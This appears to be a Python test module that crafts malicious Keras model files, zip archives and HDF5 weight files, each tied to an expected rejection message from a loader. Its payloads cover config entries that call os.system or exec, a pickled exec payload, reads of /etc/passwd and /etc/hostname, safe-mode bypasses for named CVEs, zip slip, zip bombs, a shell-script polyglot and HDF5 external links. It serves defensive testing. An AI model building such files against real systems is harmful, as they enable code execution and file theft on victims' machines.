"""Attacks on Keras' files: configurations that name code, zips and HDF5 files that reach outside."""

from __future__ import annotations

import json
import stat
import tempfile
import zipfile
from base64 import b64encode
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
from payloads import Runs, lambda_code, payload, pickle, touch


@cache
def sound() -> tuple[str, bytes]:
    """The configuration and the weights of an honest model."""
    layers = [keras.Input((None, 2)), keras.layers.LSTM(3, name="lstm"), keras.layers.Dense(2)]
    model = keras.Sequential(layers)
    with tempfile.TemporaryDirectory() as folder:
        model.save_weights(Path(folder) / "it.weights.h5")
        return model.to_json(), (Path(folder) / "it.weights.h5").read_bytes()


def keras_file(folder: Path, config: Any = None, weights: bytes | None = None, **entries: bytes) -> Path:
    own, h5 = sound()
    config = own if config is None else config
    with zipfile.ZipFile(folder / "evil.keras", "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.8.0"}')
        archive.writestr(
            "config.json", own if config is None else config if isinstance(config, str) else json.dumps(config)
        )
        archive.writestr("model.weights.h5", h5 if weights is None else weights)
        for name, content in entries.items():
            archive.writestr(name, content)
    return folder / "evil.keras"


def with_layer(folder: Path, layer: dict[str, Any]) -> Path:
    config = json.loads(sound()[0])
    config["config"]["layers"].insert(1, layer)
    return keras_file(folder, config)


def with_option(folder: Path, name: str, value: Any) -> Path:
    config = json.loads(sound()[0])
    config["config"]["layers"][1]["config"][name] = value
    return keras_file(folder, config)


def named(module: str, kind: str, config: Any, registered: str | None = None) -> dict[str, Any]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


@payload("Lambda holds a function")
def keras_lambda(folder: Path) -> Path:
    code = {"class_name": "__lambda__", "config": {"code": lambda_code(folder), "defaults": None, "closure": None}}
    return with_layer(folder, named("keras.layers", "Lambda", {"name": "l", "function": code}))


@payload("module os, which is not Keras' own")
def keras_module_os(folder: Path) -> Path:
    """CVE-2025-1550: any importable class by its module's name."""
    config = {"name": "x", "args": [f"touch {folder / 'canary'}"]}
    return with_layer(folder, named("os", "system", config))


@payload("holds a function")
def keras_function_of_builtins(folder: Path) -> Path:
    return with_option(folder, "activation", named("builtins", "function", "exec"))


@payload("module keras.utils, which is not")
def keras_get_file(folder: Path) -> Path:
    """CVE-2025-8747: a function of Keras itself that fetches a file and unpacks it."""
    fetched = {"fname": str(folder / "canary"), "origin": "file:///etc/hostname"}
    return with_option(folder, "kernel_initializer", named("keras.utils", "get_file", fetched))


@payload("module keras.config, which is not")
def keras_that_switches_safe_mode_off(folder: Path) -> Path:
    """CVE-2025-9906."""
    return with_layer(folder, named("keras.config", "enable_unsafe_deserialization", {"name": "x"}))


@payload("TorchModuleWrapper holds a function or code")
def keras_torch_module_wrapper(folder: Path) -> Path:
    """CVE-2025-49655: a layer whose configuration is a pickle."""
    module = b64encode(pickle.dumps(Runs(exec, touch(folder)), 2)).decode()
    return with_layer(folder, named("keras.layers", "TorchModuleWrapper", {"name": "x", "module": module}))


@payload("layer vocabulary .StringLookup. cannot be converted")
def keras_vocabulary_that_reads_a_file(folder: Path) -> Path:
    """CVE-2025-12058: a vocabulary that is a path, or an address."""
    config = {"name": "vocabulary", "vocabulary": "/etc/passwd"}
    return with_layer(folder, named("keras.layers", "StringLookup", config))


@payload("custom object, registered as evil>Run")
def keras_registered_name(folder: Path) -> Path:
    return with_layer(folder, named("keras.layers", "LSTM", {"name": "x", "units": 3}, "evil>Run"))


@payload("module __main__, which is not")
def keras_class_of_main(folder: Path) -> Path:
    return with_option(folder, "bias_initializer", named("__main__", "Run", {}))


@payload("module keras.src.saving.serialization_lib, which is not")
def keras_serialization_gadget(folder: Path) -> Path:
    inner = named("keras.src.saving.serialization_lib", "deserialize_keras_object", {"safe_mode": False})
    return with_option(folder, "recurrent_regularizer", {"deep": [[inner]]})


@payload("module keras.src.ops.numpy.os|which is not Keras' own")
def keras_module_with_a_tail(folder: Path) -> Path:
    return with_layer(folder, named("keras.layers.os", "system", {"name": "x"}))


@payload("names no class")
def keras_class_that_is_no_word(folder: Path) -> Path:
    return with_layer(folder, {"module": "keras.layers", "class_name": {"a": 1}, "config": {}})


@payload("only Sequential and Functional")
def keras_custom_model(folder: Path) -> Path:
    return keras_file(folder, named("evil", "Own", {"layers": []}, "evil>Own"))


@payload("its configuration says .2147483647, 2147483647")
def keras_table_of_exabytes(folder: Path) -> Path:
    layers = [keras.Input((None,)), keras.layers.Embedding(5, 2), keras.layers.GRU(3), keras.layers.Dense(2)]
    keras.Sequential(layers).save(folder / "evil.keras")
    with zipfile.ZipFile(folder / "evil.keras") as archive:
        config, weights = json.loads(archive.read("config.json")), archive.read("model.weights.h5")
    config["config"]["layers"][1]["config"] |= {"input_dim": 2**31 - 1, "output_dim": 2**31 - 1}
    return keras_file(folder, config, weights)


@payload("its configuration says .2000000000,")
def keras_layer_of_terabytes(folder: Path) -> Path:
    return with_option(folder, "units", 2_000_000_000)


@payload("has no units")
def keras_layer_of_no_size(folder: Path) -> Path:
    config = json.loads(sound()[0])
    del config["config"]["layers"][1]["config"]["units"]
    return keras_file(folder, config)


@payload("nested too deeply")
def keras_depth_bomb(folder: Path) -> Path:
    return keras_file(folder, '{"config":' + "[" * 300_000 + "]" * 300_000 + "}")


@payload("occurs twice")
def keras_same_key_twice(folder: Path) -> Path:
    return keras_file(folder, sound()[0].replace('{"module"', '{"module": "os", "module"', 1))


@payload("not valid JSON: NaN")
def keras_number_that_json_has_not(folder: Path) -> Path:
    return with_option(folder, "units", float("nan"))


@payload("path that leaves its folder")
def keras_zip_slip(folder: Path) -> Path:
    return keras_file(folder, **{"../canary": b"x"})


@payload("absolute or foreign path")
def keras_absolute_path(folder: Path) -> Path:
    return keras_file(folder, **{str(folder / "canary"): b"x"})


@payload("absolute or foreign path")
def keras_path_of_windows(folder: Path) -> Path:
    return keras_file(folder, **{"..\\canary": b"x"})


@payload("absolute or foreign path")
def keras_path_of_a_drive(folder: Path) -> Path:
    return keras_file(folder, **{"C:canary": b"x"})


@payload("type of a link")
def keras_symlink(folder: Path) -> Path:
    path = keras_file(folder)
    link = zipfile.ZipInfo("assets")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, str(folder))
    return path


@payload("which no plain model has")
def keras_assets(folder: Path) -> Path:
    return keras_file(folder, **{"assets/run.py": touch(folder).encode()})


@payload("name of another entry")
def keras_two_configurations(folder: Path) -> Path:
    path = keras_file(folder)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", json.dumps(named("os", "system", {})))
    return path


@payload("would unpack to")
def keras_zip_bomb(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "evil.keras", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", b" " * 300 * 2**20)
        archive.writestr("model.weights.h5", b"x")
    return folder / "evil.keras"


@payload("overlaps another")
def keras_zip_bomb_of_overlapping_entries(folder: Path) -> Path:
    """Fifield 2019: many names for one piece of the file."""
    path = keras_file(folder, a=b"x")
    with zipfile.ZipFile(path, "a") as archive:
        archive.getinfo("a").header_offset = archive.getinfo("model.weights.h5").header_offset
        archive.comment = b"x"  # makes it write the directory anew
    return path


@payload("before its first entry")
def keras_polyglot(folder: Path) -> Path:
    path = keras_file(folder)
    path.write_bytes(b"#!/bin/sh\ntouch canary\nexit\n" + path.read_bytes())
    return path


@payload("no sound zip file")
def keras_that_is_no_zip(folder: Path) -> Path:
    (folder / "evil.keras").write_bytes(pickle.dumps(Runs(exec, touch(folder)), 2))
    return folder / "evil.keras"


# --- HDF5


def hdf5(change: Callable[[h5py.File, Path], None]) -> Callable[[Path], Path]:
    """A file of weights, honest but for one change."""

    def write(folder: Path) -> Path:
        (folder / "evil.weights.h5").write_bytes(sound()[1])
        (folder / "secret").write_bytes(np.arange(64, dtype=np.float32).tobytes())
        with h5py.File(folder / "evil.weights.h5", "a") as file:
            change(file, folder)
        return folder / "evil.weights.h5"

    write.__name__ = change.__name__
    return write


KERNEL = "layers/lstm/cell/vars/0"


@payload("is a ExternalLink")
@hdf5
def hdf5_external_link(file: h5py.File, folder: Path) -> None:
    with h5py.File(folder / "other.h5", "w") as other:
        other["x"] = np.zeros((2, 12), np.float32)
    del file[KERNEL]
    file[KERNEL] = h5py.ExternalLink(str(folder / "other.h5"), "x")


@payload("is a SoftLink")
@hdf5
def hdf5_soft_link(file: h5py.File, folder: Path) -> None:
    file["layers/lstm/cell/vars/9"] = h5py.SoftLink("/layers")


@payload("in another file")
@hdf5
def hdf5_external_storage(file: h5py.File, folder: Path) -> None:
    del file[KERNEL]
    file.create_dataset(KERNEL, (2, 12), "<f4", external=[(str(folder / "secret"), 0, 96)])


@payload("in another file")
@hdf5
def hdf5_virtual_dataset(file: h5py.File, folder: Path) -> None:
    layout = h5py.VirtualLayout((2, 12), "<f4")
    layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "x", (2, 12))
    del file[KERNEL]
    file.create_virtual_dataset(KERNEL, layout)


@payload("compressed or filtered")
@hdf5
def hdf5_bomb(file: h5py.File, folder: Path) -> None:
    file.create_dataset("layers/dense/vars/7", (2**16, 2**8), "<f4", compression="gzip", fillvalue=1)


@payload("not stored in it")
@hdf5
def hdf5_size_without_storage(file: h5py.File, folder: Path) -> None:
    file.create_dataset("layers/dense/vars/7", (2**40,), "<f4", chunks=(1024,))


@payload("not of numbers")
@hdf5
def hdf5_objects(file: h5py.File, folder: Path) -> None:
    file.create_dataset("layers/dense/vars/7", data=["code"], dtype=h5py.string_dtype())


@payload("groups in a circle")
@hdf5
def hdf5_circle(file: h5py.File, folder: Path) -> None:
    file["layers/lstm/again"] = file["layers"]


@payload("neither group nor dataset")
@hdf5
def hdf5_named_type(file: h5py.File, folder: Path) -> None:
    file["layers/lstm/type"] = np.dtype("<f4")


@payload("belongs to no layer|has a dataset")
@hdf5
def hdf5_model_of_keras_2(file: h5py.File, folder: Path) -> None:
    file.attrs["model_config"] = json.dumps(named("keras.layers", "Lambda", {"function": lambda_code(folder)}))
    file["model_weights/lambda/x"] = np.zeros(1, np.float32)


@payload("cannot be read")
def hdf5_that_is_damaged(folder: Path) -> Path:
    data = bytearray(sound()[1])
    data[96:2000] = bytes(range(256)) * 7 + bytes(112)
    (folder / "evil.weights.h5").write_bytes(data)
    return folder / "evil.weights.h5"
